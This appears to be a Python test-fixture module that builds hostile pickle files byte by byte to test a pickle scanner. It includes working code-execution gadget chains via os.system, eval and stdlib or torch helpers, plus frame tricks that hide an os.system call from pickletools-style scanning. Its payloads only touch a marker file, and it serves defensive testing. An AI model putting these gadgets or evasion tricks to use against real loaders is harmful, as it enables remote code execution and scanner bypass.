"""Hand-assembled hostile pickles: each would create a marker file if a loader ran it.

The builders write opcodes directly, so a test controls exactly what a scanner and a loader
see: STACK_GLOBAL with dotted names, calls through attribute traversal, frames that lie.
"""

from __future__ import annotations

import struct


def s(text: str) -> bytes:
    """BINUNICODE: a u32 length and UTF-8."""
    data = text.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def g4(module: str, name: str) -> bytes:
    """STACK_GLOBAL module.name (protocol 4 resolves dotted names attribute by attribute)."""
    return s(module) + s(name) + b"\x93"


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args) with REDUCE."""
    return func + b"(" + b"".join(args) + b"tR"


def newobj(cls: bytes, *args: bytes) -> bytes:
    """cls.__new__(cls, *args) with NEWOBJ: how pickle makes an object of a class."""
    return cls + b"(" + b"".join(args) + b"t\x81"


def p4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def shell(marker) -> str:
    return f"touch {marker}"


def python_code(marker) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def gadget_pickles(marker) -> dict[str, bytes]:
    """Name -> pickle; the ones marked real create `marker` under pickle.loads."""
    cmd, code = shell(marker), python_code(marker)
    os_system = g4("os", "system")
    cleanup = g4("mypackage.tools", "cleanup")
    return {
        # real payloads (run for proof in a child process)
        "eval_call": p4(call(g4("builtins", "eval.__call__"), s(code))),
        "exec_call": p4(call(g4("builtins", "exec.__call__"), s(code))),
        "glob_os_system": p4(call(g4("glob", "os.system"), s(cmd))),
        "glob_os_attrgetter": p4(call(call(call(g4("operator", "attrgetter"), s("system")),
                                           g4("glob", "os")), s(cmd))),
        "pydoc_locate": p4(call(call(g4("pydoc", "locate"), s("os.system")), s(cmd))),
        "pkgutil_resolve_name": p4(call(call(g4("pkgutil", "resolve_name"), s("os:system")),
                                        s(cmd))),
        "methodcaller": p4(call(call(g4("operator", "methodcaller"), s("system"), s(cmd)),
                                g4("glob", "os"))),
        "runstring": p4(call(g4("numpy.testing._private.utils", "runstring"), s(code),
                             b"}")),
        "logging_filehandler": p4(call(g4("logging", "FileHandler"), s(str(marker)))),
        "zipfile_write": p4(call(g4("zipfile", "ZipFile"), s(str(marker)), s("w"))),
        "gzip_write": p4(call(g4("gzip", "open"), s(str(marker)), s("wb"))),
        # gadget families named in advisories: built as calls, judged by name and by the call
        "idlelib": p4(call(g4("idlelib.pyshell", "ModifiedInterpreter.runcode"), s(code))),
        "lib2to3": p4(call(g4("lib2to3.pgen2.pgen", "generate_grammar"), s(str(marker)))),
        "doctest": p4(call(g4("doctest", "debug_script"), s(code))),
        "ensurepip": p4(call(g4("ensurepip", "_run_pip"), s(cmd))),
        "venv": p4(call(g4("venv", "EnvBuilder.create"), s(str(marker)))),
        "uuid": p4(call(g4("uuid", "_get_command_stdout"), s("touch"), s(str(marker)))),
        "osx_support": p4(call(g4("_osx_support", "_read_output"), s(cmd))),
        "aix_support": p4(call(g4("_aix_support", "_read_cmd_output"), s(cmd))),
        "pyrepl": p4(call(g4("_pyrepl.pager", "pipe_pager"), s(""), s(cmd))),
        "test_support": p4(call(g4("test.support.script_helper", "assert_python_ok"),
                                s("-c"), s(code))),
        "imaplib": p4(call(g4("imaplib", "IMAP4_stream"), s(cmd))),
        "poplib": p4(call(g4("poplib", "POP3"), s("localhost"))),
        "nntplib": p4(call(g4("nntplib", "NNTP"), s("localhost"))),
        "torch_bottleneck": p4(call(g4("torch.utils.bottleneck.__main__", "run_cprofile"),
                                    s(code), b"}")),
        "torch_collect_env": p4(call(g4("torch.utils.collect_env", "run"), s(cmd))),
        "torch_config_module": p4(call(g4("torch.utils._config_module", "ConfigModule.load_config"),
                                       s(code))),
        "torch_datapipes": p4(call(g4("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
                                   s("pickle"), s(code))),
        "torch_dynamo": p4(call(g4("torch._dynamo.guards", "GuardBuilder"), s(code))),
        "torch_inductor": p4(call(g4("torch._inductor.codecache", "compile_file"), s(code))),
        "torch_fx_experimental": p4(call(g4("torch.fx.experimental.symbolic_shapes", "eval_guards"),
                                         s(code))),
        "torch_compile": p4(call(g4("torch", "compile"), os_system)),
        # semantics: an unknown callable that the pickle calls
        "unknown_call": p4(call(g4("mypackage.tools", "cleanup"), s(str(marker)))),
        "print_call": p4(call(g4("builtins", "print"), s("hello"))),
        "inst_unknown": b"(S'" + str(marker).encode() + b"'\nisomepkg.mod\nThing\n.",
        "obj_unknown": b"(csomepkg.mod\nThing\nS'x'\no.",
        "build_on_class": b"\x80\x02csomepkg.mod\nThing\n}b.",
        # copyreg._reconstructor(cls, list, ...): list.__init__ runs on the file's state
        "reconstructor_base_init": b"ccopy_reg\n_reconstructor\n(csomepkg.mod\nThing\n"
                                   b"c__builtin__\nlist\n(lI1\natR(dS'a'\nI1\nsb.",
        # built as pickle saves objects, but not an author's class: denied names, the standard
        # library's callable wrappers and lazy iterators, an EXT code
        "newobj_os_system": p4(newobj(os_system, s(cmd))),
        "newobj_partial_called": p4(newobj(g4("functools", "partial"), cleanup, s(str(marker)))
                                    + b")R"),
        "newobj_map_listed": p4(call(g4("builtins", "list"),
                                     newobj(g4("builtins", "map"), cleanup, b"]" + s(str(marker)) + b"a"))),
        "newobj_stdlib_class": p4(newobj(g4("threading", "Thread")) + b"}b"),
        "newobj_ext_code": b"\x80\x02\x82\x01)\x81.",
        # an object the pickle built, then called: its class's __call__ with the file's arguments
        "author_instance_called": p4(call(newobj(g4("somepkg.mod", "Thing")) + b"}b", s(str(marker)))),
        # pure builtins that return an argument, used to hide a call: max([f])(x), sum([], f)(x)
        "max_launders_a_call": p4(call(call(g4("builtins", "max"), b"]" + cleanup + b"a"), s(str(marker)))),
        "sum_launders_a_call": p4(call(call(g4("builtins", "sum"), b"]", cleanup), s(str(marker)))),
        "build_on_max_of_class": p4(call(g4("builtins", "max"), b"]" + g4("somepkg.mod", "Thing") + b"a")
                                    + b"}b"),
        "reconstructor_launders_class": p4(call(g4("copyreg", "_reconstructor"),
                                                call(g4("builtins", "max"), b"]" + g4("somepkg.mod", "Thing") + b"a"),
                                                g4("builtins", "object"), b"N") + b"}b"),
        # torch's tensor-subclass rebuild runs func(*args)
        "from_type_calls_func": p4(call(g4("torch._tensor", "_rebuild_from_type_v2"), cleanup,
                                        g4("torch", "Tensor"), b"(" + s(str(marker)) + b"t", b"}")),
    }


# Objects of a class outside the allow-list, built the way pickle saves any object (protocol 2's
# NEWOBJ + BUILD, protocol 0/1's copyreg._reconstructor(cls, object, None) + BUILD): what
# torch.save(model) writes. Not an attacker-chosen call: the "needs_classes" verdict.
AUTHOR_CLASS_PICKLES = {
    "newobj_unknown": b"\x80\x02csomepkg.mod\nThing\n)\x81}b.",
    "reconstructor_setstate": b"ccopy_reg\n_reconstructor\n(csomepkg.mod\nThing\n"
                              b"c__builtin__\nobject\nNtR(dS'a'\nI1\nsb.",
}


# Gadgets whose payload really runs under pickle.loads (checked in a child process).
REAL = ("eval_call", "exec_call", "glob_os_system", "glob_os_attrgetter", "pydoc_locate",
        "pkgutil_resolve_name", "methodcaller", "logging_filehandler", "zipfile_write",
        "gzip_write")


def frame_straddle(marker, n: int = 40, junk: int = 6) -> bytes:
    """PROTO 5, a FRAME holding a BINUNICODE whose text runs past the frame.

    Read straight through (pickletools.genops), the text swallows the rest of the frame and
    a STOP follows: a harmless string. CPython's unpickler reading from a BytesIO (as
    torch.load reads data.pkl) drops the rest of the frame, takes the text from after it,
    and then runs os.system.
    """
    text = bytearray(b"A" * n)
    text[n - junk] = ord(".")  # where the straight reading stops
    frame = b"X" + struct.pack("<I", n) + b"J" * junk
    cmd = shell(marker).encode()
    evil = b"0cos\nsystem\n(X" + struct.pack("<I", len(cmd)) + cmd + b"tR."
    return b"\x80\x05\x95" + struct.pack("<Q", len(frame)) + frame + bytes(text) + evil


def nested_frames(marker) -> bytes:
    """A FRAME inside a frame, claiming more than the outer frame has left: the C unpickler
    drops the outer frame's remaining bytes (a decoy string) and reads on after them."""
    cmd = shell(marker).encode()
    evil = b"cos\nsystem\n(X" + struct.pack("<I", len(cmd)) + cmd + b"tR."
    decoy = b"N."  # straight reading: NONE, STOP
    inner = b"\x95" + struct.pack("<Q", len(evil))
    outer_body = inner + decoy
    return b"\x80\x05\x95" + struct.pack("<Q", len(outer_body)) + outer_body + evil
